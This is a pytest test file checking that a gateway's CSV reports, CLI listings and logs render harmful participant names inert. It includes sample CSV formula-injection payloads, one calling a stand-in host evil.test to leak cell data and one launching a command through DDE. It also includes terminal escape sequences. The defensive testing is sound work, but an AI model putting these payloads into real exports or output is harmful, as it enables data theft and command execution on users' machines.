"""What the gateway prints and exports is inert: no formula runs, no escape drives a terminal.

Names come from participants: token and join names lose their control characters, hub
names are kept as the hub gives them (formulas included), and databases from earlier
versions hold escape sequences as they were typed. So the report, the lists and the serve
log are checked with names built to do harm.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import time

import pytest
from sqlalchemy import text

from runway_widget.cli.commands import main
from runway_widget.gateway.db.database import open_engine
from runway_widget.gateway.db.roster import Limits, Participant, Roster
from runway_widget.gateway.web.report import inert_cell, report_csv
from tests.gateway_support import call, demo_gateway

pytestmark = pytest.mark.timeout(120)

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\uff1d1+1",  # a full-width equals sign
]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mmallory\x1b[0m\x9b1;1H\u202eevil"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def db(tmp_path):
    return f"sqlite:///{tmp_path / 'gateway.sqlite3'}"


def _hub_users(db: str, *names: str) -> None:
    """Participants named exactly as a hub named them."""
    roster = Roster(open_engine(db))
    for name in names:
        roster.enroll(name, Limits(jobs=2))
    roster.engine.dispose()


def _earlier_participant(db: str, name: str) -> None:
    """A participant an earlier version let in (it kept escape sequences in names)."""
    engine = open_engine(db)
    with engine.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO gateway_participants (name, token_hash, jobs_used, credits_used,"
                " running, revoked, admin, created_at) VALUES (:name, :token, 0, 0, 0,"
                " false, false, :now)"
            ),
            {"name": name, "token": "0" * 64, "now": time.time()},
        )
    engine.dispose()


def test_text_cells_that_start_like_a_formula_are_neutralized():
    for value in [*FORMULAS, "\t=1+1", "\r=1+1"]:
        assert inert_cell(value) == "'" + value
    assert inert_cell("ann = lee") == "ann = lee"
    assert inert_cell(-3) == -3 and inert_cell(None) == ""


def test_the_csv_report_holds_no_formula_and_keeps_its_numbers(db, capsys):
    _hub_users(db, *FORMULAS)
    assert main(["gateway", "report", "--csv", "--db", db]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [row["name"] for row in rows] == ["'" + text for text in FORMULAS]
    assert all(row["jobs_limit"] == "2" and row["jobs_used"] == "0" for row in rows)
    assert report_csv([]) == ",".join(rows[0]) + "\n"


def test_the_admin_pages_csv_is_neutralized_too(tmp_path):
    with demo_gateway(tmp_path) as gateway:
        admin = gateway.add_participant("teacher", admin=True)
        for text in FORMULAS:
            gateway.roster.enroll(text, Limits())
        reply = call(gateway, "GET", "/admin/report.csv", admin)
    rows = list(csv.DictReader(io.StringIO(reply.text, newline="")))
    names = [row["name"] for row in rows]
    assert names[0] == "teacher" and names[1:] == ["'" + text for text in FORMULAS]


def test_reports_and_lists_print_nothing_that_drives_a_terminal(db, capsys):
    _earlier_participant(db, ESCAPES)
    roster = Roster(open_engine(db))
    roster.add_join_code("ROOM-42", 3, Limits())
    with roster.engine.begin() as conn:  # a code no command takes now, kept from before
        conn.execute(text("UPDATE gateway_join_codes SET code = :c"), {"c": "code\x1b[31m"})
    roster.engine.dispose()
    outputs = {}
    for command in (["report"], ["report", "--json"], ["token", "list"], ["join", "list"]):
        assert main(["gateway", *command, "--db", db]) == 0
        outputs[" ".join(command)] = capsys.readouterr().out
    for command, out in outputs.items():
        assert not RAW.search(out), command
    assert "mallory" in outputs["report"] and "mallory" in outputs["token list"]
    assert outputs["join list"].startswith("code")
    assert json.loads(outputs["report --json"])[0]["name"] == ESCAPES  # escaped, not lost


def test_the_serve_log_names_participants_inertly(tmp_path, caplog):
    caplog.set_level(logging.INFO, logger="runway_widget.gateway")

    class HubNamed:
        """Names the caller as a hub would: exactly, escape sequences included."""

        def __init__(self, roster: Roster) -> None:
            self.id = roster.enroll(ESCAPES, Limits())

        async def authenticate(self, header: str | None) -> Participant | None:
            return Participant(self.id, ESCAPES) if header == "hub-token" else None

    with demo_gateway(tmp_path, job_seconds=0.2) as gateway:
        gateway.context.auth = HubNamed(gateway.roster)
        body = {"prompt": "a boat", "generation_type": "text2video"}
        reply = call(gateway, "POST", "/runway-imagine", "hub-token", json=body)
    assert reply.status_code == 200
    lines = [record.getMessage() for record in caplog.records]
    assert any("mallory" in line and "submitted task" in line for line in lines)
    assert any('"participant": ' in line and "mallory" in line for line in lines)  # access log
    assert not [line for line in lines if RAW.search(line)]
